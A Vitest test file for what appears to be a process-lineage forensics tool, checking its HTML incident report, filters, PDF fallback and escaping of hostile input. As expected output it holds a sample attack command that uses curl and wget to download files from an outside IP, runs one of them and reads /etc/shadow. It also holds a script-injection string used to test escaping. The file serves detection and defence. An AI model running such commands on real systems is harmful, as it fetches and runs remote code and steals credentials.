import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/run-cli.js';
import { tempDir } from '../support/temp-case.js';

/** The HTML report of the bundled sample, and of a case whose evidence is hostile. */

const dir = tempDir('pedigree-report-');
afterAll(() => dir.cleanup());
const STORY = fileURLToPath(new URL('../../samples/story.jsonl', import.meta.url));

/** The markup of one finding's article (from its id to the next article). */
function article(html: string, heading: string): string {
  const at = html.indexOf(heading);
  expect(at, `${heading} in the report`).toBeGreaterThan(-1);
  const start = html.indexOf('<article', at);
  return html.slice(start, html.indexOf('</article>', start));
}

const stepNodes = (svg: string): string[] => [...svg.matchAll(/<g class="node[^"]* step[^"]*" data-exec="\d+" data-steps="([^"]*)"/g)].map((m) => m[1] ?? '');

describe('pedigree demo writes the report', () => {
  const db = dir.path('demo.db');
  const r = runCli(['demo', '--no-tui', '--db', db], { env: { TZ: 'UTC' } });
  const html = readFileSync(dir.path('demo.html'), 'utf8');

  it('says where the report went', () => {
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`Report with pictures (findings, lineage trees, timeline): ${dir.path('demo.html')}`);
  });

  it('draws the web-shell chain with its three steps highlighted and the /etc/shadow read under the shell', () => {
    const payload = article(html, 'Web service shell fetches and runs a payload <span');
    expect(stepNodes(payload)).toEqual(['shell', 'fetch', 'run']);
    expect(payload).toMatch(/<text class="name" x="6" y="14">cat,4004<\/text><text class="args" x="6" y="29">\/etc\/shadow<\/text>/);
    // The ancestry from the root down to the shell is drawn, root first.
    const names = [...payload.matchAll(/<text class="name"[^>]*>([^<]*)</g)].map((m) => m[1]);
    expect(names.slice(0, 5)).toEqual(['systemd,1', 'containerd-shim,2301', 'nginx,2330', 'nginx,2351', 'sh,4001']);
    // Lineage edges between steps are drawn in the step colour: shell → curl and shell → x.
    expect(payload.match(/class="edge on-path"/g)).toHaveLength(2);
    const credential = article(html, 'Credential files read by a service&#39;s shell <span');
    expect(stepNodes(credential)).toEqual(['shell', 'read']);
  });

  it('marks exited processes and reused pids, with the full command line in the hover text', () => {
    const payload = article(html, 'Web service shell fetches and runs a payload <span');
    expect(payload).toMatch(/<g class="node exited step reused" data-exec="\d+" data-steps="fetch"/);
    expect(payload).toMatch(/<g class="node exited"[^>]*><title>cat pid 4004/);
    expect(payload).toContain('cmdline: sh -c curl -s -o /tmp/x http://203.0.113.7/x; wget -q -O /tmp/y http://203.0.113.7/y; cat /etc/shadow; /tmp/x &#38;');
  });

  it('summarises the sources, lists every finding by priority and draws a timeline with a zoom on the attack', () => {
    expect(html).toMatch(/<td class="path">[^<]*samples\/story\.scap<br><span class="hash">[0-9a-f]{64}<\/span><\/td><td>scap<\/td><td>node-1<\/td>/);
    const order = [...html.matchAll(/<tr><td><span class="prio [^"]+">(\w+)<\/span><\/td><td>(\w+)<\/td>/g)].map((m) => `${m[1]} ${m[2]}`);
    expect(order).toEqual(['Critical chain', 'Error chain', 'Warning alert']);
    expect(html).toContain('<svg class="timeline"');
    expect(html).toMatch(/zoom 1: 2024-11-28T13:20:1\d/);
    expect(html.match(/<path class="mark step"/g)?.length).toBeGreaterThanOrEqual(2 * 5);
  });

  it('is self-contained: no script, no external resource', () => {
    expect(html).not.toMatch(/<script|<link|<img|<iframe|@import|url\(/i);
    expect(html).not.toMatch(/(src|href)="(?!#)/);
  });
});

describe('report filters', () => {
  const db = dir.path('demo.db');
  const report = (...args: string[]): string => {
    const out = dir.path('filtered.html');
    const r = runCli(['report', '--db', db, '--out', out, ...args]);
    expect(r.code, r.stderr).toBe(0);
    return readFileSync(out, 'utf8');
  };
  const groups = (html: string): string[] => [...html.matchAll(/<p class="group-count">([^<]*)/g)].map((m) => m[1] ?? '');

  it('--min-priority keeps the severe findings only', () => {
    const html = report('--min-priority', 'error');
    expect(groups(html)).toEqual(['1 match of Web service shell fetches and runs a payload', '1 match of Credential files read by a service&#39;s shell']);
    expect(html).toContain('filters: priority Error or more severe');
  });

  it('--container and --host select where; host processes have no finding', () => {
    expect(groups(report('--container', '3f9a1c0e2b7d'))).toHaveLength(3);
    expect(report('--container', 'host')).toContain('No chain matches or alerts are stored in this case for these filters');
    expect(groups(report('--host', 'node-1'))).toHaveLength(3);
    const unknown = runCli(['report', '--db', db, '--out', dir.path('x.html'), '--host', 'elsewhere']);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain("no host named 'elsewhere' in the case");
  });

  it('--since/--until bound the findings and the timeline', () => {
    const html = report('--since', '2024-11-28T13:20:16Z', '--until', '2024-11-28T13:20:20Z');
    // The alert (13:20:15) is before the window; both chains end inside it.
    expect(groups(html)).toHaveLength(2);
    expect(html).toContain('aria-label="2024-11-28T13:20:16.000000000Z → 2024-11-28T13:20:20.000000000Z"');
  });

  it('--max-findings draws that many and still counts every group', () => {
    const html = report('--max-findings', '1');
    expect(html.match(/<article class="finding"/g)).toHaveLength(1);
    expect(groups(html).slice(1)).toEqual([
      expect.stringMatching(/^1 match of Credential files read by a service&#39;s shell; none drawn \(--max-findings reached\)\. All of them: $/),
      expect.stringMatching(/^1 match of Spawn Shell in Container; none drawn/),
    ]);
    expect(html).toContain('3 findings in 3 groups; 1 drawn.');
  });
});

describe('report --pdf', () => {
  it('says clearly when no Chromium is there, and still writes the HTML', () => {
    const db = dir.path('demo.db');
    const out = dir.path('nopdf.html');
    const r = runCli(['report', '--db', db, '--out', out, '--pdf', dir.path('nopdf.pdf')], { env: { PEDIGREE_CHROMIUM: dir.path('no-such-browser') } });
    expect(r.code).toBe(66);
    expect(r.stderr).toContain('--pdf needs headless Chromium and none was found');
    expect(r.stderr).toContain('the HTML report was written');
    expect(readFileSync(out, 'utf8')).toMatch(/^<!DOCTYPE html>/);
    expect(existsSync(dir.path('nopdf.pdf'))).toBe(false);
  });
});

describe('hostile evidence', () => {
  it('escapes attacker-written command lines everywhere in the page', () => {
    const evil = `<script>alert(1)</script>"'&\u202eexe.txt\u0007`;
    const lines = readFileSync(STORY, 'utf8')
      .split('\n')
      .map((l) => (l.includes('"args":["/etc/shadow"]') ? l.replace('"args":["/etc/shadow"]', `"args":["/etc/shadow",${JSON.stringify(evil)}]`) : l));
    const input = dir.path('evil.jsonl');
    writeFileSync(input, lines.join('\n'));
    const db = dir.path('evil.db');
    expect(runCli(['import', input, '--db', db]).code).toBe(0);
    expect(runCli(['chains', 'run', '--db', db, '-q']).code).toBe(0);
    const out = dir.path('evil.html');
    const r = runCli(['report', '--db', db, '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    const html = readFileSync(out, 'utf8');
    expect(html).toContain('/etc/shadow &#60;script&#62;alert(1)&#60;/script&#62;&#34;&#39;&#38;\\u{202e}exe.txt\\x07');
    expect(html).not.toContain('<script');
    expect(html).not.toContain('\u202e');
    expect(html).not.toContain('\u0007');
  });
});
